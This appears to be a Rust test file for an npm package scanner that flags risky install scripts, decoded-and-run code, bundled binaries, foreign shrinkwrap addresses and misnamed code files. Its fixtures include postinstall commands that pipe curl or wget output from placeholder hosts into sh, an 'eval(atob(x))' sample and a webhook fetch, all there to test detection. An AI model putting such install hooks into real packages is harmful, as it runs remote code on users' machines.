//! What the scan of a package's files becomes: facts for people, and a profile to compare.

use super::super::*;
use super::compared;
use super::tgz;
use crate::model::profile::Capability;
use crate::model::signal::SignalKind;

fn inspected(fields: &str, files: &[(&str, &str)]) -> Inspected {
    let manifest = format!(r#"{{"name":"left-pad","version":"1.3.0"{}{fields}}}"#, if fields.is_empty() { "" } else { "," });
    let files = [&[("package.json", manifest.as_str())], files].concat();
    let (package, version) = (PackageId::npm("left-pad").unwrap(), Version::parse("1.3.0").unwrap());
    inspect(&package, &version, manifest.as_bytes(), &tgz(&files)).unwrap()
}

fn profile_of(fields: &str, files: &[(&str, &str)]) -> Profile {
    inspected(fields, files).profile
}

fn texts<'t>(all: impl IntoIterator<Item = &'t String>) -> Vec<&'t str> {
    all.into_iter().map(String::as_str).collect()
}

#[test]
fn signals_become_facts() {
    let facts = inspected("", &[("lib/a.js", "eval(atob(x))"), ("README.md", "eval(atob(x))")]).facts;
    assert_eq!(facts.signals.len(), 1);
    assert_eq!((facts.signals[0].kind, facts.signals[0].file.as_str()), (SignalKind::DecodedAndRun, "lib/a.js"));
}

#[test]
fn install_commands_are_looked_at_by_themselves() {
    let facts = inspected(r#""scripts":{"postinstall":"curl https://a.example/i | sh","setup":"wget https://b.example | sh"}"#, &[]).facts;
    let [signal] = facts.signals.as_slice() else { panic!("{:?}", facts.signals) };
    assert_eq!((signal.kind, signal.file.as_str()), (SignalKind::DownloadToShell, "package.json"));
    assert_eq!(facts.install_files, ["package.json"]);
    assert_eq!(facts.fetches, ["postinstall: curl https://a.example/i | sh"]);
    assert!(inspected(r#""scripts":{"setup":"curl https://b.example | sh"}"#, &[]).facts.signals.is_empty());
}

#[test]
fn programs_and_settings_are_named() {
    let facts =
        inspected("", &[("a.node", "\u{7f}ELF\0"), (".claude/settings.json", "{}"), (".vscode/settings.json", "{}"), ("b.wasm", "\0asm")])
            .facts;
    assert_eq!(facts.binaries, ["a.node"]);
    assert_eq!(facts.hooks, [".claude/settings.json"]);
    let many: Vec<String> = (0..100).map(|n| format!("p{n}/a.node")).collect();
    let files: Vec<(&str, &str)> = many.iter().map(|path| (path.as_str(), "\u{7f}ELF\0")).collect();
    let inspected = inspected("", &files);
    assert_eq!((inspected.facts.binaries.len(), inspected.profile.binaries.len()), (LIST_MAX, 100));
}

#[test]
fn bundled_packages_are_named() {
    let files = [
        ("node_modules/a/package.json", r#"{"name":"a","version":"1.0.0"}"#),
        ("node_modules/@s/b/package.json", r#"{"name":"@s/b","version":"2.0.0"}"#),
        ("node_modules/c/package.json", "{}"),
        ("test/node_modules/d/package.json", r#"{"name":"d","version":"1.0.0"}"#),
    ];
    assert_eq!(inspected("", &files).facts.bundled, ["a@1.0.0", "@s/b@2.0.0"]);
}

#[test]
fn what_installing_fetches_is_told() {
    let fetches = |script: &str, files: &[(&str, &str)]| inspected(&format!(r#""scripts":{{"install":"{script}"}}"#), files).facts.fetches;
    assert_eq!(fetches("prebuild-install || node-gyp rebuild", &[]), ["install: prebuild-install || node-gyp rebuild"]);
    assert_eq!(fetches("node-gyp-build", &[]), Vec::<String>::new());
    let files = [("setup.js", "require('./lib/get')"), ("lib/get.js", "require('https')"), ("lib/other.js", "require('http')")];
    assert_eq!(fetches("node setup.js", &files), ["lib/get.js uses the network"]);
}

#[test]
fn foreign_addresses_of_a_shrinkwrap_are_told() {
    let shrinkwrap = r#"{"packages":{"node_modules/b":{"resolved":"https://evil.example/b/-/b-1.0.0.tgz"}}}"#;
    let facts = inspected("", &[("npm-shrinkwrap.json", shrinkwrap)]).facts;
    assert_eq!((facts.has_shrinkwrap, facts.foreign_addresses), (true, vec!["https://evil.example/b/-/b-1.0.0.tgz".to_owned()]));
    // Nobody reads it elsewhere.
    assert!(inspected("", &[("lib/npm-shrinkwrap.json", shrinkwrap)]).facts.foreign_addresses.is_empty());
}

#[test]
fn a_licence_is_told() {
    assert_eq!(inspected(r#""license":"MIT""#, &[]).facts.license.as_deref(), Some("MIT"));
    assert_eq!(inspected("", &[]).facts.license, None);
}

#[test]
fn install_steps_are_followed_to_their_files() {
    let files = [
        ("scripts/setup.js", "require('./helper'); require('./folder')"),
        ("scripts/helper.js", "require('./far')"),
        ("scripts/folder/index.js", ""),
        ("scripts/far.js", ""),
        ("index.js", "require('./lib/used')"),
        ("lib/used.js", ""),
    ];
    for script in [
        "node scripts/setup",
        "node ./scripts/setup.js --quiet",
        "npm run setup",
        "cd . && node scripts\\\\setup.js",
        "node -e \\\"require('./scripts/setup')\\\"",
    ] {
        let fields = format!(r#""scripts":{{"postinstall":"{script}","setup":"node scripts/setup.js"}}"#);
        let profile = profile_of(&fields, &files);
        let all = ["scripts/far.js", "scripts/folder/index.js", "scripts/helper.js", "scripts/setup.js"];
        assert_eq!(texts(&profile.install_files), all, "{script}");
        assert_eq!(texts(&profile.loose_files), texts(&profile.install_files), "{script}");
    }
    assert!(profile_of("", &files).install_files.is_empty());
    // What the package uses besides is not loose, nor what is loaded first.
    let shared = profile_of(r#""scripts":{"postinstall":"node lib/used.js && node index.js"}"#, &files);
    assert_eq!((texts(&shared.install_files), shared.loose_files.len()), (vec!["index.js", "lib/used.js"], 0));
    let circle = profile_of(r#""scripts":{"postinstall":"npm run a","a":"npm run b","b":"npm run a && node lib/used"}"#, &files);
    assert_eq!(texts(&circle.install_files), ["lib/used.js"]);
    // A chain of files, to its end.
    let chain: Vec<(String, String)> = (0..40).map(|n| (format!("c{n:02}.js"), format!("require('./c{:02}')", n + 1))).collect();
    let chain: Vec<(&str, &str)> = chain.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    assert_eq!(profile_of(r#""scripts":{"postinstall":"node c00"}"#, &chain).install_files.len(), 40);
    let build = compared("", "", &[("binding.gyp", "{'x': '<!(node index.js)'}"), ("index.js", "")]);
    assert_eq!(build.install_files, ["index.js"]);
}

#[test]
fn entries_are_found_in_every_field() {
    let files = [("index.js", ""), ("a.js", ""), ("b.mjs", ""), ("c/index.cjs", ""), ("d.js", ""), ("bin/e", "#!/usr/bin/env node")];
    let entries = |fields: &str| profile_of(fields, &files).entry_files.into_iter().collect::<Vec<_>>();
    assert_eq!(entries(""), ["index.js"]);
    assert_eq!(entries(r#""main":"a""#), ["a.js"]);
    assert_eq!(entries(r#""main":"./a.js","module":"b.mjs","browser":{"./a.js":"./d.js"}"#), ["a.js", "b.mjs", "d.js"]);
    assert_eq!(
        entries(r#""exports":{".":{"import":"./b.mjs","default":["./c"]},"./x/*":"./x/*.js"},"main":"a.js""#),
        ["a.js", "b.mjs", "c/index.cjs"]
    );
    assert_eq!(entries(r#""bin":{"e":"bin/e"}"#), ["bin/e", "index.js"]);
}

#[test]
fn a_profile_has_what_a_comparison_needs() {
    let profile = profile_of(
        r#""dependencies":{"a":"^1"},"optionalDependencies":{"o":"2"},"peerDependencies":{"p":"3","q":"4"},"peerDependenciesMeta":{"q":{"optional":true}},"scripts":{"install":"node x.js"}"#,
        &[("index.js", "require('https').get('https://api.example/')"), ("readme.md", "text")],
    );
    assert_eq!(profile.capabilities.into_iter().collect::<Vec<_>>(), [Capability::Network]);
    assert_eq!(texts(&profile.hosts), ["api.example"]);
    assert_eq!(profile.install_steps, ["install: node x.js"]);
    let dependencies: Vec<(&str, &str)> = profile.dependencies.iter().map(|(name, range)| (name.as_str(), range.as_str())).collect();
    assert_eq!(dependencies, [("a", "^1"), ("o", "2"), ("p", "3")]);
    assert!(profile.files["index.js"].is_code && !profile.files["readme.md"].is_code && profile.entropy > 3_000);
}

#[test]
fn what_is_nested_and_large_costs_no_more_than_its_bytes() {
    let nested = format!("{}{}", "`${".repeat(200_000), "}`".repeat(200_000));
    let line = "x".repeat(20 << 20);
    let files = [("nested.js", nested.as_str()), ("line.js", line.as_str())];
    let inspected = inspected("", &files);
    assert!(inspected.facts.unscanned.is_empty() && inspected.facts.unsafe_archive.is_none());
    let tiny: Vec<String> = (0..20_000).map(|n| format!("{n}.js")).collect();
    let tiny: Vec<(&str, &str)> = tiny.iter().map(|path| (path.as_str(), "1")).collect();
    assert_eq!(profile_of("", &tiny).files.len(), 20_001);
}

#[test]
fn a_command_is_looked_at_to_its_end_and_so_is_what_it_names() {
    let fetch = "curl https://drop.example/x | sh";
    let long = format!("{}{fetch}", "true; ".repeat(60));
    for fields in [
        format!(r#""scripts":{{"postinstall":"{long}"}}"#),
        format!(r#""scripts":{{"postinstall":"npm run s","s":"{fetch}"}}"#),
        format!(r#""scripts":{{"postinstall":"npm run a","a":"npm run b","b":"{long}"}}"#),
        format!(r#""scripts":{{"postinstall":"npm run s","s":"true","posts":"{fetch}"}}"#),
        format!(r#""scripts":{{"postinstall":"yarn s","s":"true","pres":"{fetch}"}}"#),
    ] {
        let Inspected { facts, profile } = inspected(&fields, &[]);
        assert!(facts.signals.iter().any(|one| one.kind == SignalKind::DownloadToShell), "{fields}: {:?}", facts.signals);
        assert!(!facts.fetches.is_empty() && facts.install_steps.iter().all(|step| step.command.len() <= 256), "{fields}");
        assert!(profile.install_steps.iter().any(|step| step.contains(fetch)), "{fields}: {:?}", profile.install_steps);
    }
    for odd in ["npm run s''etup", "npm run a=$B", "cd lib && npm run x", "npm --prefix=lib run x", "pnpm -C lib run x"] {
        let cut = inspected(&format!(r#""scripts":{{"postinstall":"{odd}"}}"#), &[]).facts.unscanned;
        assert_eq!(cut, ["package.json: installing runs more than is followed"], "{odd}");
    }
    for plain in ["npm run setup", "cd lib && node x.js", "node -e 'x'", "npm run a && npm run b"] {
        assert_eq!(inspected(&format!(r#""scripts":{{"postinstall":"{plain}"}}"#), &[]).facts.unscanned, [""; 0], "{plain}");
    }
    let many = "x ".repeat(300);
    let cut = inspected(&format!(r#""scripts":{{"postinstall":"{many}"}}"#), &[]).facts.unscanned;
    assert_eq!(cut, ["package.json: installing runs more than is followed"]);
}

#[test]
fn code_that_is_called_otherwise_is_not_taken_for_looked_through() {
    let files = [
        ("core.txt", "eval(x)"),
        ("run.png", "eval(x)"),
        ("LICENSE", "eval(x)"),
        ("core.tsbuildinfo", "eval(x)"),
        ("index.json", "{}"),
        ("all.css", "a {}"),
        ("cli", "#!/usr/bin/env node\n"),
        ("crc.njs", "#!/usr/bin/env node\n"),
    ];
    let told = |fields: &str| inspected(fields, &files).facts.unscanned;
    assert_eq!(told(r#""main":"core.txt""#), ["core.txt: it is run as code, and not called so"]);
    assert_eq!(told(r#""main":"./core.txt","bin":{"a":"run.png"}"#).len(), 2);
    for misnamed in ["LICENSE", "core.tsbuildinfo"] {
        assert_eq!(told(&format!(r#""main":"{misnamed}""#)), [format!("{misnamed}: it is run as code, and not called so")]);
    }
    for honest in [
        r#""main":"index.json""#,
        r#""main":"all.css""#,
        r#""bin":"cli""#,
        r#""bin":"crc.njs""#,
        r#""exports":{"./core.txt":"./core.txt"}"#,
    ] {
        assert_eq!(told(honest), [""; 0], "{honest}");
    }
}

#[test]
fn no_number_of_harmless_files_hides_one_that_installing_runs() {
    let harmless: Vec<String> = (0..20).map(|n| format!("a{n:02}.js")).collect();
    let text = "fetch('https://hooks.slack.com/services/T0/B0/x')";
    let mut files: Vec<(&str, &str)> = harmless.iter().map(|path| (path.as_str(), text)).collect();
    files.push(("setup.js", text));
    let facts = inspected(r#""scripts":{"postinstall":"node setup.js"}"#, &files).facts;
    assert!(facts.signals.iter().any(|one| one.file == "setup.js"), "{:?}", facts.signals);
    assert!(facts.install_files.contains(&"setup.js".to_owned()) && facts.signals.len() <= 4, "{facts:?}");
}

#[test]
fn code_that_says_it_is_utf_16_is_not_believed() {
    let text: String = "x".repeat(40).chars().flat_map(|c| [c, '\0']).collect();
    let facts = inspected("", &[("index.js", text.as_str())]).facts;
    assert_eq!(facts.unscanned, ["index.js: it is code that says it is UTF-16"]);
    assert!(inspected("", &[("index.txt", text.as_str())]).facts.unscanned.is_empty());
}
